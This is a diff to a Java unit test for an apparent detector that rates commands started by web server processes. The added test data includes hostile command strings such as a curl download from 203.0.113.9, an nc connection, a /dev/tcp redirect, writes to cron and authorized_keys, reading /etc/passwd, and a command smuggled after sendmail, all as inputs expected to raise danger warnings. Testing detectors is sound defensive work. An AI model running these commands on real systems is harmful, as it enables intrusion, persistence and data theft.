@@ -287,6 +287,81 @@ class ServiceSpawnedRuleTest {
                 .contains(Severity.DANGER);
     }
 
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "cd /srv/shop && git pull",
+                "cd /srv/shop && git pull 2>&1; composer install --no-dev > build.log 2>&1",
+                "mysqldump 'shop' | gzip > /srv/backup/shop.sql.gz",
+                "zstd -q -c /srv/fifo > /dev/null",
+                "/usr/local/bin/report --month 11 >> /var/log/shop/report.log",
+                "tar czf /srv/backup/a.tgz /srv/shop",
+                "cd /srv/shop && python3 ocr.py a.png | sort",
+            })
+    void a_few_programs_of_the_system_are_a_caution_whatever_language_starts_them(String command) {
+        for (SampleBuilder server : List.of(
+                service("/usr/sbin/php-fpm8.4"),
+                service("/usr/bin/python3.13").commandLine("gunicorn: worker [shop]"),
+                service("/usr/bin/node").commandLine("node", "app.js"),
+                service("/usr/bin/java").commandLine("java", "-jar", "app.jar"))) {
+            assertThat(spawned(server, shell(command)))
+                    .as(command)
+                    .map(Warning::severity)
+                    .contains(Severity.CAUTION);
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "cd /tmp && ./x",
+                "/tmp/x",
+                "/usr/local/bin/../../../tmp/x",
+                "cd /srv/shop && id",
+                "git pull && bash",
+                "git pull; curl -o /tmp/x http://203.0.113.9/x",
+                "echo x > /var/www/shop/x.php",
+                "echo x > /etc/cron.d/x",
+                "echo x >> /root/.ssh/authorized_keys",
+                "cp a.txt a.php",
+                "cat /etc/passwd",
+                "env x",
+                "nc 203.0.113.9 9",
+                "PATH=/tmp git pull",
+                "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=x",
+                "tar cIf x y z",
+                "java -jar /tmp/x.jar",
+                "echo aQ== | base64 -d > x",
+                "echo \"$(id)\"",
+                "git pull & x",
+                "ls 2>/dev/tcp/203.0.113.9/9",
+                "python3 -c 'import os' | sort",
+                ""
+            })
+    void what_starts_decodes_fetches_or_looks_around_stays_danger(String command) {
+        assertThat(spawned(service("/usr/sbin/php-fpm8.4"), shell(command)))
+                .map(Warning::severity)
+                .contains(Severity.DANGER);
+    }
+
+    @Test
+    void phps_mail_is_quiet_with_the_end_of_options_before_it_too() {
+        SampleBuilder mail = service("/usr/bin/dash").commandLine("sh", "-c", "--", "/usr/sbin/sendmail -t -i");
+        assertThat(spawned(service("/usr/sbin/php-fpm8.4"), mail)).isEmpty();
+        for (List<String> hidden : List.of(
+                List.of("bash", "-c", "-o", "posix", "id"),
+                List.of("bash", "-oc", "posix", "id"),
+                List.of("sh", "-c", "--", "/usr/sbin/sendmail -t -i; id"),
+                List.of("sh", "-c", "--", "--", "/usr/sbin/sendmail -t -i"))) {
+            assertThat(spawned(
+                            service("/usr/sbin/php-fpm8.4"),
+                            service("/usr/bin/bash").commandLine(hidden.toArray(String[]::new))))
+                    .as("%s", hidden)
+                    .map(Warning::severity)
+                    .contains(Severity.DANGER);
+        }
+    }
+
     @Test
     void a_hook_of_a_repository_that_git_starts_below_a_web_server_is_a_caution() {
         SampleBuilder hook = program("/usr/bin/dash").commandLine("/bin/sh", "hooks/post-receive");
@@ -340,7 +415,7 @@ class ServiceSpawnedRuleTest {
                         .warning(WarningCode.SERVICE_SPAWNED))
                 .hasValueSatisfying(warning -> {
                     assertThat(warning.severity()).isEqualTo(Severity.CAUTION);
-                    assertThat(warning.why().en()).contains("known to start programs");
+                    assertThat(warning.why().en()).contains("a program that starts others");
                 });
     }
 
